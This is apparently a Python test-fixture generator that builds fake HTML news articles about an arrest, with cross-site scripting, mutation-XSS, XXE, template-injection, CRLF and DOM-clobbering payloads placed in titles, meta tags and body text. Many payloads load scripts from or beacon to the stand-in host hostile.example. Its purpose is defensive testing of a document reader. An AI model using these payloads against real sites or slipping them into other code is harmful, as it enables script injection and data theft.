"""Documents that want to run something in the reader, or to call somebody. The same number gives the same document."""

import random

# Nobody lives there; a request to it is what the tests look for.
HOME = "http://hostile.example"
ACT = "window.hostile=1;console.error('hostile');alert('hostile')"
NULL, BIDI = "\0", "\u202e\u2066\u2069\u202d"

# What runs: in a tag, an attribute, an address, a style, or by being read twice.
PAYLOADS = [
    "<script>{act}</script>",
    "<SCRIPT SRC={home}/{n}.js></SCRIPT>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<script/x>{act}</script/x>",
    "<img src=x onerror=\"{act}\">",
    "<img src='{home}/{n}.png' srcset='{home}/{n}-2.png 2x' loading=eager>",
    "<IMG \"\"\"><script>{act}</script>\">",
    "<image src=x onerror={act}>",
    "<svg onload=\"{act}\"></svg>",
    "<svg><script href='{home}/{n}.js'/><animate onbegin=\"{act}\" attributeName=x dur=1s></svg>",
    "<svg><use href='{home}/{n}.svg#x'/><image href='{home}/{n}.png'/><foreignObject><iframe srcdoc='&lt;script&gt;{act}&lt;/script&gt;'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=\"{act}\"></style></svg>",
    "<svg><a xlink:href=\"javascript:{act}\"><text x=9 y=9>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={act}&gt;\">",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=\"{act}\"></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror={act}>\"></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={act}>",
    "<template><img src=x onerror=\"{act}\"></template>",
    "<textarea><img title=\"</textarea><img src=x onerror={act}>\"></textarea>",
    "<xmp><p title=\"</xmp><svg/onload={act}>\"></xmp>",
    "<plaintext><script>{act}</script>",
    "<iframe src=\"javascript:{act}\"></iframe>",
    "<iframe src='{home}/{n}' srcdoc=\"<script>{act}</script>\"></iframe>",
    "<object data='{home}/{n}.swf'><embed src='{home}/{n}'></object>",
    "<a href=\"javascript:{act}\" ping='{home}/{n}'>press</a>",
    "<a href='jav&#x09;ascript:{act}'>press</a>",
    "<a href=\"data:text/html,<script>{act}</script>\">press</a>",
    "<body onload=\"{act}\" onfocus=\"{act}\" background='{home}/{n}.png'>",
    "<input autofocus onfocus=\"{act}\"><select autofocus onfocus={act}>",
    "<details open ontoggle=\"{act}\"><summary>x</summary></details>",
    "<video autoplay src='{home}/{n}.mp4' poster='{home}/{n}.png' onerror=\"{act}\"><source src='{home}/{n}' onerror={act}></video>",
    "<audio src='{home}/{n}.mp3' autoplay onloadstart=\"{act}\"></audio>",
    "<marquee onstart=\"{act}\">x</marquee>",
    "<meta http-equiv=refresh content='0;url={home}/{n}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "<base href='{home}/'>",
    "<link rel=stylesheet href='{home}/{n}.css'><link rel=prefetch href='{home}/{n}'><link rel=dns-prefetch href='//hostile.example'>",
    "<style>@import '{home}/{n}.css'; body {{ background: url({home}/{n}.png) }} @font-face {{ font-family: x; src: url({home}/{n}) }}</style>",
    "<p style=\"background:url('{home}/{n}.png');position:fixed;inset:0;z-index:9999\">over it all</p>",
    "<div style='width:expression({act})' behavior='url({home})'>x</div>",
    "<form action='{home}/{n}' method=post><button formaction='{home}/{n}' autofocus>Accept</button><input name=token></form>",
    "<script type=module>import '{home}/{n}.js'</script><script type=speculationrules>{{\"prerender\":[{{\"urls\":[\"{home}/{n}\"]}}]}}</script>",
    "<script>navigator.serviceWorker.register('{home}/{n}.js');fetch('{home}/{n}');new WebSocket('ws://hostile.example/')</script>",
    "<p id=content><p id=a1 name=token class='skip' data-key=a accesskey=a>clobber</p><form id=desk name=getElementById></form>",
    "<!--><img src=x onerror=\"{act}\">-->",
    "<![CDATA[<img src=x onerror={act}>]]>",
    "<?xml-stylesheet href='{home}/{n}.xsl'?><?php {act} ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM '{home}/{n}'>]>&x;",
    "<p>{null}<scr{null}ipt>{act}</scr{null}ipt><img{null}src=x{null}onerror={act}></p>",
    "<p>{bidi}<img src=x onerror=\"{act}\">{bidi}</p>",
    "<p title='{huge}' onclick=\"{act}\" {huge}>x</p>",
    "{deep}<img src=x onerror=\"{act}\">",
    "<p>{{{{ 7*7 }}}} ${{7*7}} {{% include '/etc/passwd' %}} <%= 7*7 %></p>",
    "+ADw-script+AD4-{act}+ADw-/script+AD4-",
    "<a href='#' onmouseover=\"{act}\" style='display:block;width:9999px;height:9999px'>x</a>",
    "<p>&lt;script&gt;{act}&lt;/script&gt; and &lt;img src=x onerror=&quot;{act}&quot;&gt;</p>",
    "<p>&amp;lt;script&amp;gt;{act}&amp;lt;/script&amp;gt;</p>",
    "<p>\" onmouseover=\"{act}\" autofocus onfocus=\"{act}\" x=\"' accesskey='a</p>",
    "<p></p></section></main></body></html><script>{act}</script>",
]

# The same, written so that it is text: what the reader shows must stay text.
AS_TEXT = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;"})
NAMES = ["Ilan Dresk", "Mara Olvin", "Teko Sarran", "Nadi Veluk", "Orsa Pelim"]
PLACES = ["Velin", "Orvesh", "Marowe", "Tessaly"]


def payload(numbers, n):
    one = numbers.choice(PAYLOADS)
    huge, deep = "x" * numbers.choice([1000, 60_000]), "<div><b>" * numbers.choice([50, 2000])
    return one.format(act=ACT, home=HOME, n=n, null=NULL, bidi=BIDI, huge=huge, deep=deep)


def document(n):
    """File name and bytes of the document with this number."""
    numbers = random.Random(n)
    who, where = numbers.choice(NAMES), numbers.choice(PLACES)
    parts = [payload(numbers, n) for _ in range(4)] + [PAYLOADS[n % len(PAYLOADS)].format(
        act=ACT, home=HOME, n=n, null=NULL, bidi=BIDI, huge="y" * 3000, deep="<div>" * 60)]
    quoted = [part.translate(AS_TEXT) for part in parts]
    attribute = parts[3].replace('"', "&quot;")
    html = f"""<!DOCTYPE html><html><head><title>Police in {where} arrest {who} {quoted[0]}</title>
<meta name="author" content="{attribute}"><meta property="og:site_name" content="{attribute}">{parts[0]}</head>
<body><article><h1>Police in {where} arrest {who} {quoted[1]}</h1>
<p class="byline">By {quoted[2]}</p>{parts[1]}
<p>Police arrested {who}{quoted[3]} in {where} on 3 March 2021, a colleague said. {parts[2]}</p>
<p>&quot;They beat {who} and took the telephone {quoted[4]},&quot; said a neighbour, {quoted[0]} who saw it from the street.</p>
{parts[4]}<p>A court in {where} sentenced {who} to two years in prison on 9 May 2021. {parts[3]}</p>
<p>{quoted[1]} was charged with {quoted[2]} at the court in {where}, the ministry said on Monday.</p></article></body></html>"""
    name = f"{n:03d}-{numbers.choice(NAME_ENDS)}.html"
    return name, html.encode("utf-8", "surrogatepass") if n % 9 else html.encode("utf-16")


# Names of files are shown too.
NAME_ENDS = [
    "plain", "<img src=x onerror=alert(1)>", "\"><script>alert(1)<", "'onfocus='alert(1)' autofocus='", f"{BIDI}lmth",
    "%3Cscript%3E", "\x1b[31m\r\nSet-Cookie: a=b", "&lt;svg onload=alert(1)&gt;", "javascript:alert(1)", "{{7*7}}",
]
